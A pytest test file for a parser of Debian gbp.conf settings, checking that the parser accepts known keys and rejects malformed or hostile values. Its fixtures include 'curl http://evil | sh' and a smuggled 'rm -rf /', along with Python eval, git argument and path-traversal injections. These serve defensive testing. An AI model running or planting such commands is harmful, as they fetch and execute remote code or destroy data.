"""debian/gbp.conf: the known keys, and nothing else of it."""

from __future__ import annotations

import pytest

from invirtibuilder import gbpconf
from invirtibuilder.errors import PackageFault
from invirtibuilder.gbpconf import GbpSettings

GBP = b"""# comment
[DEFAULT]
debian-branch = debian/sid
upstream-tag = v%(version%~%.)s
pristine-tar = True
postexport = curl http://evil | sh

[buildpackage]
sign-tags = True
compression = xz
component = ["doc", "test-data"]
[gbp-dch]
x = %(nothing
"""


def test_gbp_conf() -> None:
    settings = gbpconf.gbp_settings(GBP)
    assert settings == GbpSettings(
        pristine_tar=True,
        upstream_tag="v%(version%~%.)s",
        debian_branch="debian/sid",
        components=("doc", "test-data"),
        compression="xz",
    )
    assert gbpconf.gbp_settings(None) == gbpconf.gbp_settings(b"") == GbpSettings()


def test_sections_as_gbp_takes_them() -> None:
    data = (
        b"[DEFAULT]\npristine-tar=True\ncompression=bz2\n[git-buildpackage]\nupstream-tag=a/%(version)s\n"
        b"[buildpackage]\npristine-tar = off\n[import-orig]\ncomponents = ['x']\ncomponent = y\n"
    )
    settings = gbpconf.gbp_settings(data)
    assert (settings.pristine_tar, settings.compression) == (False, "bzip2")
    assert (settings.upstream_tag, settings.components) == ("a/%(version)s", ("y",))


@pytest.mark.parametrize(
    "data",
    [
        b"no section = 1\n",
        b"[DEFAULT]\npristine-tar = perhaps\n",
        b"[DEFAULT]\ncomponent = ['a', __import__('os')]\n",
        b"[DEFAULT]\ncomponent = ../x\n",
        b"[DEFAULT]\ncomponent = " + b"[" * 5000,
        b"[DEFAULT]\ncomponent = [[" + b"]" * 50,
        b"[DEFAULT]\ncompression = zstd; rm -rf /\n",
        b"[DEFAULT]\nupstream-branch = --upload-pack=x\n",
        b"[DEFAULT]\ndebian-branch = a..b\n",
        b"[DEFAULT]\nupstream-tag = \x1b[2J\n",
        b"[DEFAULT]\n\xff=1\n",
        b"[DEFAULT\n",
        b"#" * (1 << 20),
    ],
)
def test_bad_gbp_conf(data: bytes) -> None:
    with pytest.raises(PackageFault) as caught:
        gbpconf.gbp_settings(data)
    assert caught.value.code == "bad-gbp-conf"


@pytest.mark.parametrize(
    ("template", "version", "tag"),
    [
        ("", "1:2.0~rc1-1", "upstream/2.0_rc1"),
        ("v%(version)s", "1.2.3-4", "v1.2.3"),
        ("v%(version%.%_)s", "1.2.3-4", "v1_2_3"),
        ("v%(version%~%-)s", "1.2~rc1-4", "v1.2-rc1"),
        ("libfoo-%(hversion)s", "1.8.1-1", "libfoo-1-8-1"),
        (r"%(version%+%\%)s", "1+git-1", "1%git"),
        ("a%%b/%(version)s", "1-1", "a%b/1"),
    ],
)
def test_upstream_tags(template: str, version: str, tag: str) -> None:
    assert gbpconf.upstream_tags(GbpSettings(upstream_tag=template), version)[0] == tag


@pytest.mark.parametrize(
    "template",
    ["-%(version)s", "a..%(version)s", "x%(version)s.lock", "a b", "../%(version)s", "/"],
)
def test_tags_that_git_would_refuse_are_left_out(template: str) -> None:
    tags = gbpconf.upstream_tags(GbpSettings(upstream_tag=template), "1.0-1")
    assert tags == ("upstream/1.0",)
